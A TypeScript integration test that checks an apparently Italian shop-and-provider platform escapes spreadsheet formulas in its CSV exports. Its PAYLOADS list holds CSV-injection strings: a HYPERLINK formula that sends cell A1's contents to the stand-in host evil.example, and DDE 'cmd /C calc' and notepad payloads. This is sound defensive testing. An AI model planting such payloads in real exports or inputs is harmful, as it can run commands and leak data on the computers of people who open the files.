import { parse } from 'csv-parse/sync';
import { CreateHelpRequestDocument, DecideProviderDocument, RegisterProviderDocument, RegisterShopDocument } from '../gql/generated';
import { aProviderInput, aShopInput, signUp, staffUser, SignedIn } from '../testing/fixtures';
import { applyTo } from '../testing/match-fixtures';
import { publishedOffer } from '../testing/offer-fixtures';
import { dataOf, member, startTestApp, TestApp } from '../testing/test-app';

const PAYLOADS = {
  // No web address: names refuse them (markupOrLink); the formula is what this test is about.
  shop: '=HYPERLINK("evil.example/?"&A1,"Click")',
  trading: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  provider: '+HYPERLINK("evil.example","Fornitore")',
  offer: '-2+3+cmd|\' /C calc\'!A0',
  address: '=2*3+cmd|\' /C notepad\'!A0',
  // Tabs and carriage returns at the start are trimmed from inputs; the CSV unit test covers them.
  request: '+39 011 123456: chiamateci, vorremmo vendere online',
};

/** Whether a spreadsheet would run this cell: it starts like a formula (a plain negative number does not). */
const runnable = (cell: string): boolean => /^[=+@\t\r]/.test(cell) || (cell.startsWith('-') && !/^-\d+(,\d+)?$/.test(cell));

describe('CSV exports neutralise formulas typed by shops and providers (a database of its own)', () => {
  let api: TestApp;
  let staff: SignedIn;
  beforeAll(async () => {
    api = await startTestApp({ ownDatabase: true });
    staff = await staffUser(api);
    const owner = await signUp(api, 'PROVIDER');
    const registered = await api.gqlAs(owner.accessToken, RegisterProviderDocument, { input: aProviderInput({ name: PAYLOADS.provider }) });
    const providerId = member(dataOf(registered).registerProvider, 'Provider').id;
    member(dataOf(await api.gqlAs(staff.accessToken, DecideProviderDocument, { input: { providerId, decision: 'APPROVED' } })).verifyProvider, 'Provider');
    const offer = await publishedOffer(api, owner, { title: PAYLOADS.offer });
    const shop = await signUp(api, 'SHOP');
    const shopInput = aShopInput({ comuneCode: '001272', legalName: PAYLOADS.shop, tradingName: PAYLOADS.trading, address: PAYLOADS.address });
    member(dataOf(await api.gqlAs(shop.accessToken, RegisterShopDocument, { input: shopInput })).registerShop, 'Shop');
    const request = await api.gqlAs(shop.accessToken, CreateHelpRequestDocument, { input: { category: 'ONLINE_STORE', description: PAYLOADS.request } });
    const requestId = member(dataOf(request).createHelpRequest, 'HelpRequest').id;
    await applyTo(api, shop, requestId, offer.id);
  });
  afterAll(() => api.close());

  it('writes every export and the open data with no cell a spreadsheet would run, and the typed text kept after an apostrophe', async () => {
    const get = (path: string) => api.http().get(path).set('authorization', `Bearer ${staff.accessToken}`).buffer(true);
    const { exports } = (await get('/exports')).body as { exports: string[] };
    const files = [...exports.map((file) => `/exports/${file}`), '/open-data/aggregates.csv'];
    const seen = new Set<string>();
    for (const path of files) {
      const response = await get(path);
      expect([path, response.status]).toEqual([path, 200]);
      const rows = parse(response.text.replace(/^\uFEFF/, ''), { delimiter: ';', relax_column_count: false }) as string[][];
      const dangerous = rows.flat().filter(runnable);
      expect([path, dangerous]).toEqual([path, []]);
      for (const [name, payload] of Object.entries(PAYLOADS)) if (rows.flat().includes(`'${payload}`)) seen.add(name);
    }
    // Each payload reached at least one export, so the check above looked at it.
    expect([...seen].sort()).toEqual(Object.keys(PAYLOADS).sort());
  });
});
